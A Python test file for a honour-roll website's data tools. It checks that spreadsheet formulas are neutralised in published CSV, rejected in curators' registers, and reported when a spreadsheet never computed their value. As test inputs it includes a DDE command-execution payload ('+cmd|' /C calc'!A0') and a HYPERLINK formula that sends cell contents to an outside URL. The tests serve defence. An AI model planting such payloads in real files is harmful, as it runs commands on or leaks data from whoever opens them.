"""Spreadsheet formulas (CSV injection): neutralised in published CSV, refused in the registers curators keep,
and a formula whose value a spreadsheet never worked out is reported, not dropped."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import openpyxl
import pytest

from hall.model.formulas import formula_like, neutralised
from hall.site.opendata import exhibits_csv, exhibits_json
from tests.conftest import PERSON
from tests.registers.test_importer import cli, importing

HYPERLINK = '=HYPERLINK("http://example.com/?"&A1,"点这里")'


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("-", False),
        ("嘉善县", False),
        ("", False),
        ("全国劳动模范", False),
        ("'=1", False),
        (" =1", False),
    ],
)
def test_formula_like_cells(text, expected):
    assert formula_like(text) is expected
    assert neutralised(text) == ("'" + text if expected else text)


def test_a_formula_summary_is_published_as_text_in_the_csv_and_as_written_in_the_json(small_hall):
    small_hall.add(
        "people/chai-jinfu.md",
        PERSON.replace(
            "summary: 嘉善鲜切花种植第一人，带动周边农户发展现代农业。", f"summary: '{HYPERLINK}'"
        ),
    )
    hall = small_hall.load()
    assert not hall.report.errors, hall.report.format_text()
    rows = list(csv.DictReader(io.StringIO(exhibits_csv(hall, {}).lstrip("\ufeff"))))
    chai = next(r for r in rows if r["slug"] == "chai-jinfu")
    assert chai["summary"] == "'" + HYPERLINK
    assert not [value for r in rows for value in r.values() if formula_like(value)]
    data = json.loads(exhibits_json(hall, {}, "馆"))["exhibits"]
    assert (
        next(e for e in data if e["slug"] == "chai-jinfu")["summary"] == HYPERLINK
    )  # JSON is not a spreadsheet


def test_a_register_with_a_formula_cell_fails_check(small_hall):
    (small_hall.exhibits / "registers").mkdir()
    (small_hall.exhibits / "registers" / "r.csv").write_text(
        "\ufeff姓名,荣誉称号,授予年份,工作单位\r\n张伟,全国劳动模范,2015,甲厂\r\n李强,浙江工匠,2020,-2+3\r\n"
        "王芳,浙江工匠,2021,-\r\n",
        encoding="utf-8",
        newline="",
    )
    result = cli(small_hall.root, "check")
    assert result.returncode == 1, result.stdout
    errors = [line for line in result.stdout.splitlines() if " 错误 " in line]
    assert errors == [
        "exhibits/registers/r.csv:3: 错误 E709 “工作单位”的格子“-2+3”以“-”开头，用 Excel 或 WPS 打开名录时"
        "会被当作公式运行（名录里不能有公式：是文字就删掉开头的“-”；是公式就在 Excel 中把它换成算出的值"
        "（复制这一格，“选择性粘贴”→“数值”））"
    ], result.stdout  # a lone "-" (none) is text


def test_import_reports_a_formula_looking_text_cell_with_its_row_and_writes_nothing_of_it(
    small_hall, tmp_path
):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["2024 年名单"])
    sheet.append(["姓名", "荣誉称号", "获评年份", "单位"])
    sheet.append(["张伟", "全国劳动模范", 2015, "甲厂"])
    sheet.append(
        ["李强", "浙江工匠", 2020, "+cmd|' /C calc'!A0"]
    )  # text (openpyxl stores only "=" as a formula)
    book.save(tmp_path / "名单.xlsx")
    code, output = importing(small_hall, tmp_path / "名单.xlsx")
    assert (
        code == 1
        and f"{tmp_path / '名单.xlsx'}:4: 错误 E709 “工作单位”的格子“+cmd|' /C calc'!A0”以“+”开头"
        in output
    )
    assert "跳过 1 行有错误" in output
    written = (small_hall.exhibits / "registers" / "ming-dan.csv").read_text(encoding="utf-8-sig")
    assert "张伟" in written and "李强" not in written and "cmd" not in written


def test_a_formula_the_spreadsheet_never_worked_out_is_reported_with_its_excel_row(
    small_hall, tmp_path
):
    """openpyxl writes formulas without values, like any program that makes a sheet nobody opened in Excel."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["2024 年名单"])
    sheet.append(["姓名", "荣誉称号", "获评年份", "单位", "序号"])
    sheet.append(
        ["张伟", "全国劳动模范", 2015, "甲厂", "=ROW()-2"]
    )  # a formula in a column not imported: no matter
    sheet.append(["李强", "浙江工匠", 2020, '=CONCAT("乙","厂")'])
    sheet.append(["王芳", "浙江工匠", 2021, "丙厂"])
    book.save(tmp_path / "名单.xlsx")
    code, output = importing(small_hall, tmp_path / "名单.xlsx")
    assert code == 1, output
    assert (
        f'{tmp_path / "名单.xlsx"}:4: 错误 E710 “单位”（第 D 列）的 D4 格是公式“=CONCAT("乙","厂")”，'
        "文件里没有保存它算出的值，这一行没有导入（这份表格多半是程序生成、没有在 Excel 或 WPS 里打开保存过："
        "用 Excel 或 WPS 打开、保存后再导入；或在这一格直接填写内容）"
    ) in output
    assert output.count("E710") == 1 and "跳过 1 行有错误" in output
    written = (small_hall.exhibits / "registers" / "ming-dan.csv").read_text(encoding="utf-8-sig")
    assert "张伟" in written and "王芳" in written and "李强" not in written


def test_formulas_with_saved_values_import_their_values(small_hall, tmp_path):
    """What Excel or WPS saves: the formula with its value, or with empty text as the type "str"."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "荣誉称号", "获评年份", "单位"])
    sheet.append(["李强", "浙江工匠", "=2000+20", '=CONCAT("乙","厂")'])
    sheet.append(["王芳", "浙江工匠", 2021, '=IF(1,"","丙厂")'])
    book.save(tmp_path / "名单.xlsx")
    _save_values(
        tmp_path / "名单.xlsx", {"C2": ("2020", None), "D2": ("乙厂", "str"), "D3": ("", "str")}
    )
    code, output = importing(small_hall, tmp_path / "名单.xlsx")
    assert code == 0, output
    rows = list(
        csv.DictReader(
            io.StringIO(
                (small_hall.exhibits / "registers" / "ming-dan.csv").read_text(encoding="utf-8-sig")
            )
        )
    )
    assert [(r["姓名"], r["授予年份"], r["工作单位"]) for r in rows] == [
        ("李强", "2020", "乙厂"),
        ("王芳", "2021", ""),
    ]


def _save_values(path, values: dict[str, tuple[str, str | None]]) -> None:
    """Give formula cells the value (and type) Excel saves with them: numbers untyped, text as type "str"."""
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    for ref, (value, kind) in values.items():
        typed = f' t="{kind}"' if kind else ""
        xml, n = re.subn(
            rf'<c r="{ref}">(<f>.*?</f>)<v\s*/>', rf'<c r="{ref}"{typed}>\1<v>{value}</v>', xml
        )
        assert n == 1, (ref, xml)
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
